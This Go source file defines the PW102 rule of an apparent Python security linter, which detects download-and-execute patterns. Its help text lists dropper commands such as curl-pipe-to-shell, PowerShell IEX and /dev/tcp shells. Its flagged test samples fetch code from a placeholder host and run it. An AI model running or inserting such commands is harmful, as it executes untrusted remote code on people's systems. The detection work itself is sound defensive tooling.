package rules

import "github.com/pyward/pyward/python/ast"

func init() {
	Register(&Rule{
		ID: "PW102", Name: "download_and_execute", Severity: High, Confidence: High, CWE: 494,
		Message:        "data downloaded from the network is executed",
		Recommendation: "Never run downloaded code; ship dependencies through the package manager with pinned hashes.",
		Help:           "A network response (urlopen, requests, httpx, a socket) that reaches exec/eval, a process, or a file that is then made executable or run: the download-and-execute pattern of droppers. A process whose command line itself downloads and runs (`curl … | sh`, `wget -O- … | bash`, PowerShell's `IEX (New-Object Net.WebClient).DownloadString(…)`, `mshta http://…`, `certutil -urlcache`, a shell sent to `/dev/tcp/…`) is the same pattern in one string.",
		Flagged:        []string{"import urllib.request\nexec(urllib.request.urlopen(\"http://x.example/p.py\").read())\n", "import requests, os\nbody = requests.get(url).content\nwith open(\"/tmp/x\", \"wb\") as f:\n    f.write(body)\nos.chmod(\"/tmp/x\", 0o755)\n", "import os\nos.system('curl -fsSL http://x.example/i.sh | bash')\n"},
		Clean:          []string{"import requests, json\ndata = json.loads(requests.get(url).text)\n", "import subprocess\nsubprocess.run(['curl', '-fsSLo', 'data.zip', url], check=True)\n"},
		Kinds:          []Kind{KindCall, KindEnd},
		Check: func(c *Context, n ast.Node) {
			call, ok := n.(*ast.Call)
			if !ok {
				c.reportFlow()
				return
			}
			if cmd, ok := c.commandText(call); ok && dropperCmd.MatchString(cmd) {
				c.ReportWith(call, c.rule.Severity, c.rule.Confidence, "the command downloads code and runs it")
			}
		},
	})
}
